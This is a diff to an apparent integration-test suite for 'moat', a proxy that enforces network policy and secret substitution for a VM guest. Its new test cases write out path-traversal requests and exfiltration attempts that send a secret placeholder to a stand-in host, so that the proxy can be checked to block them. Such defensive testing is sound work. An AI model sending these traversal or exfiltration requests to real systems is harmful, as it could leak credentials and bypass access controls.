@@ -682,7 +682,8 @@ class MoatSession:
     """
 
     def __init__(self, moat, guest_dir, upstreams, allow, deny, names, mtu=None,
-                 keep=False, verbose=False, debug=False):
+                 keep=False, verbose=False, debug=False, extra_config="", policy_lines=(),
+                 env=None):
         self.moat = moat
         self.guest_dir = guest_dir
         self.upstreams = upstreams
@@ -698,6 +699,12 @@ class MoatSession:
         self.audit_path = os.path.join(self.folder, "audit.jsonl")
         self.ca_path = os.path.join(self.folder, "ca.pem")
         self.config_path = os.path.join(self.folder, "moat.ini")
+        self.placeholders_path = os.path.join(self.folder, "placeholders.env")
+        # Rule and secret groups, lines for [policy] and environment
+        # variables for moat, set by cases that need their own policy.
+        self.extra_config = extra_config
+        self.policy_lines = list(policy_lines)
+        self.env = dict(env or {})
         self.log_path = os.path.join(self.folder, "moat.log")
         self.process = None
         self.runs = []
@@ -705,16 +712,18 @@ class MoatSession:
         self._boots = 0
 
     def config_text(self):
-        lines = ["[moat]", f"audit = {self.audit_path}"]
+        lines = ["[moat]", f"audit = {self.audit_path}",
+                 f"placeholders-out = {self.placeholders_path}"]
         if self.mtu is not None:
             lines.append(f"mtu = {self.mtu}")
         lines += ["", "[policy]", "allow = " + ";".join(self.allow)]
         if self.deny:
             lines.append("deny = " + ";".join(self.deny))
+        lines += self.policy_lines
         lines += ["", "[tls]", f"ca-cert-out = {self.ca_path}",
                   "", "[upstream]", f"ca-file = {self.upstreams.ca_pem}",
                   "connect-to = " + ";".join(self.upstreams.connect_to(self.names)), ""]
-        return "\n".join(lines)
+        return "\n".join(lines) + self.extra_config
 
     def __enter__(self):
         if len(self.socket_path) > 107:
@@ -724,6 +733,7 @@ class MoatSession:
         env = dict(os.environ)
         if self.debug:
             env["G_MESSAGES_DEBUG"] = "all"
+        env.update(self.env)
         self._log = open(self.log_path, "wb")
         self.process = subprocess.Popen(
             [self.moat, "--config", self.config_path, "--socket", self.socket_path],
@@ -789,6 +799,30 @@ class MoatSession:
                          extra_files=extra, verbose=self.verbose, label=f"boot{self._boots}")
         self.runs.append(run)
         return run
+
+    def placeholders(self):
+        """Return the NAME=PLACEHOLDER lines that moat wrote, as a dict."""
+        with open(self.placeholders_path, encoding="ascii") as text:
+            return dict(line.rstrip("\n").split("=", 1) for line in text if "=" in line)
+
+    def write_config(self, extra=None):
+        """Write the configuration file again; moat reloads it on change."""
+        if extra is not None:
+            self.extra_config = extra
+        with open(self.config_path + ".new", "w", encoding="utf-8") as config:
+            config.write(self.config_text())
+        os.replace(self.config_path + ".new", self.config_path)
+
+    def wait_audit(self, expected, timeout=15):
+        """Wait until an audit line matches expected; return it."""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            found = [e for e in self.audit() if audit_matches(e, expected)]
+            if found:
+                print(f"  audit: {_describe(expected)}")
+                return found[-1]
+            time.sleep(0.1)
+        raise CaseFailure(f"no audit line with {_describe(expected)} within {timeout} s")
 
     def audit(self):
         """Return the audit log as a list of objects; every line must be valid JSON."""
@@ -1182,6 +1216,147 @@ def case_reconnect(session):
                             "url": "https://allowed.test/hello", "status": 200})
 
 
+# Policy rules, secrets, report mode and reload. Each case sets its own
+# policy through the attributes that case() stores.
+
+VM_SECRET_VALUE = "real-secret-value-0f1e2d3c4b5a"
+
+
+def case_config(allow, deny, extra="", policy_lines=(), env=None):
+    """Give a case its own policy: MoatSession arguments for run_case()."""
+    def decorate(function):
+        function.session_options = {"allow": allow, "deny": deny, "extra_config": extra,
+                                    "policy_lines": list(policy_lines), "env": env or {}}
+        return function
+    return decorate
+
+
+@case("rules")
+@case_config([], [], extra="""
+[rule hello-get]
+hosts = allowed.test;*.wild.test
+methods = GET
+paths = /hello
+action = allow
+
+[rule no-denied]
+hosts = denied.wild.test
+action = deny
+""")
+def case_rules(session):
+    run = session.boot("fetch ok http://allowed.test/hello\n"
+                       "fetch traversal --path-as-is http://allowed.test/hello/../headers\n"
+                       "fetch encoded --path-as-is http://allowed.test/hello/%2e%2e/headers\n"
+                       "fetch post -X POST -d x=1 http://allowed.test/hello\n"
+                       "fetch denied --cacert /ca.pem https://denied.wild.test/hello\n")
+    run.check_booted(session.mtu or DEFAULT_MTU)
+    expect_fetch(run, "ok", 200, body=HELLO_BODY)
+    expect_fetch(run, "traversal", 403, body_contains='rule "default"')
+    expect_fetch(run, "encoded", 403, body_contains='rule "default"')
+    expect_fetch(run, "post", 403, body_contains='rule "default"')
+    expect_fetch(run, "denied", 403, body_contains='rule "no-denied"')
+    header = run.header("denied", "X-Moat-Denied")
+    check(header is not None and header.startswith('denied.wild.test: rule "no-denied"'),
+          f"denied: X-Moat-Denied should name the rule, got {header!r}")
+    seen = [r["path"] for r in session.upstreams.requests()]
+    check(seen == ["/hello"], f"the upstream should see only GET /hello, got {seen}")
+    session.check_running()
+    session.expect_audit(**{AUDIT_EVENT_KEY: AUDIT_REQUEST, AUDIT_DECISION: AUDIT_ALLOW,
+                            "rule": "hello-get", "url": "http://allowed.test/hello"})
+    session.expect_audit(count=3, **{AUDIT_EVENT_KEY: AUDIT_REQUEST,
+                                     AUDIT_DECISION: AUDIT_DENY, "rule": "default",
+                                     "host": "allowed.test"})
+    session.expect_audit(**{AUDIT_EVENT_KEY: AUDIT_REQUEST, AUDIT_DECISION: AUDIT_DENY,
+                            "rule": "no-denied", "host": "denied.wild.test"})
+
+
+@case("secrets")
+@case_config(TEST_ALLOW, TEST_DENY, env={"MOAT_VM_SECRET": VM_SECRET_VALUE}, extra="""
+[secret token]
+value-env = MOAT_VM_SECRET
+hosts = allowed.test
+""")
+def case_secrets(session):
+    placeholders = session.placeholders()
+    placeholder = placeholders.get("token", "")
+    check(placeholder.startswith("moat-placeholder-token-") and len(placeholder) == 55,
+          f"placeholders file should name token with 32 hex digits, got {placeholders}")
+    mode = os.stat(session.placeholders_path).st_mode & 0o777
+    check(mode == 0o600, f"placeholders file mode is {mode:o}, expected 600")
+    run = session.boot(f"fetch bearer --cacert /ca.pem -H 'Authorization: Bearer {placeholder}' "
+                       "https://allowed.test/hello\n"
+                       f"fetch basic -u 'user:{placeholder}' http://allowed.test/hello\n"
+                       f"fetch exfil -H 'X-Token: {placeholder}' http://other.wild.test/hello\n"
+                       f"fetch exfil-url 'http://other.wild.test/hello?key={placeholder}'\n")
+    run.check_booted(session.mtu or DEFAULT_MTU)
+    expect_fetch(run, "bearer", 200, body=HELLO_BODY)
+    expect_fetch(run, "basic", 200, body=HELLO_BODY)
+    expect_fetch(run, "exfil", 403, body_contains='rule "secret.token"')
+    expect_fetch(run, "exfil-url", 403, body_contains='rule "secret.token"')
+    expect_no_upstream_request(session, "other.wild.test")
+    headers = [dict((k.lower(), v) for k, v in r["headers"])
+               for r in session.upstreams.requests_for_host("allowed.test")]
+    auth = sorted(h.get("authorization", "") for h in headers)
+    basic = "Basic " + base64.b64encode(f"user:{VM_SECRET_VALUE}".encode()).decode()
+    check(auth == sorted([f"Bearer {VM_SECRET_VALUE}", basic]),
+          f"the upstream should receive the real value, got {auth}")
+    print("  upstream: received the real value in Bearer and Basic credentials")
+    session.check_running()
+    session.expect_audit(count=2, **{AUDIT_EVENT_KEY: AUDIT_REQUEST,
+                                     AUDIT_DECISION: AUDIT_DENY, "rule": "secret.token",
+                                     "exfiltration": True})
+    for path in (session.audit_path, session.log_path):
+        with open(path, "rb") as text:
+            check(VM_SECRET_VALUE.encode() not in text.read(),
+                  f"the secret value appears in {path}")
+    print("  audit and log: no secret value")
+
+
+@case("report-mode")
+@case_config(TEST_ALLOW, TEST_DENY, policy_lines=["mode = report"])
+def case_report_mode(session):
+    run = session.boot("fetch control http://other.wild.test/hello\n"
+                       "fetch denied http://denied.wild.test/hello\n")
+    run.check_booted(session.mtu or DEFAULT_MTU)
+    expect_fetch(run, "control", 200, body=HELLO_BODY)
+    expect_fetch(run, "denied", 200, body=HELLO_BODY)
+    expect_upstream_request(session, "http", "denied.wild.test", "/hello")
+    session.check_running()
+    session.expect_audit(**{AUDIT_EVENT_KEY: AUDIT_REQUEST, AUDIT_DECISION: "would-deny",
+                            "rule": "policy.deny", "host": "denied.wild.test", "status": 200})
+    session.expect_audit(**{AUDIT_EVENT_KEY: AUDIT_REQUEST, AUDIT_DECISION: AUDIT_ALLOW,
+                            "rule": "policy.allow", "host": "other.wild.test"})
+
+
+@case("reload")
+def case_reload(session):
+    first = session.boot("fetch denied http://denied.wild.test/hello\n")
+    first.check_booted(session.mtu or DEFAULT_MTU)
+    expect_fetch(first, "denied", 403)
+
+    # A valid change applies; an invalid one keeps the running policy, both
+    # when the file changes and on SIGHUP.
+    session.deny = []
+    session.write_config()
+    session.wait_audit({AUDIT_EVENT_KEY: "reload", AUDIT_DECISION: "applied",
+                        "trigger": "file change"})
+    session.write_config(extra="[rule broken]\nmethods = get\naction = allow\n")
+    session.wait_audit({AUDIT_EVENT_KEY: "reload", AUDIT_DECISION: "failed",
+                        "trigger": "file change"})
+    session.process.send_signal(signal.SIGHUP)
+    failed = session.wait_audit({AUDIT_EVENT_KEY: "reload", AUDIT_DECISION: "failed",
+                                 "trigger": "SIGHUP"})
+    check("moat.ini:" in failed.get("reason", "") and "[rule broken] methods" in failed["reason"],
+          f"the failed reload should name file, line, group and key: {failed}")
+
+    second = session.boot("fetch allowed http://denied.wild.test/hello\n")
+    second.check_booted(session.mtu or DEFAULT_MTU)
+    expect_fetch(second, "allowed", 200, body=HELLO_BODY)
+    session.check_running()
+    session.expect_audit(**{AUDIT_EVENT_KEY: AUDIT_REQUEST, AUDIT_DECISION: AUDIT_ALLOW,
+                            "rule": "policy.allow", "host": "denied.wild.test"})
+
+
 # ---------------------------------------------------------------------------
 # Main
 
@@ -1191,9 +1366,11 @@ def run_case(name, args, upstreams):
     print(f"== {name}")
     upstreams.clear()
     started = time.monotonic()
-    session = MoatSession(args.moat, args.guest_dir, upstreams, TEST_ALLOW, TEST_DENY,
-                          TEST_NAMES, mtu=args.mtu, keep=args.keep, verbose=args.verbose,
-                          debug=args.debug)
+    options = dict(getattr(function, "session_options",
+                           {"allow": TEST_ALLOW, "deny": TEST_DENY}))
+    session = MoatSession(args.moat, args.guest_dir, upstreams, options.pop("allow"),
+                          options.pop("deny"), TEST_NAMES, mtu=args.mtu, keep=args.keep,
+                          verbose=args.verbose, debug=args.debug, **options)
     try:
         with session:
             function(session)
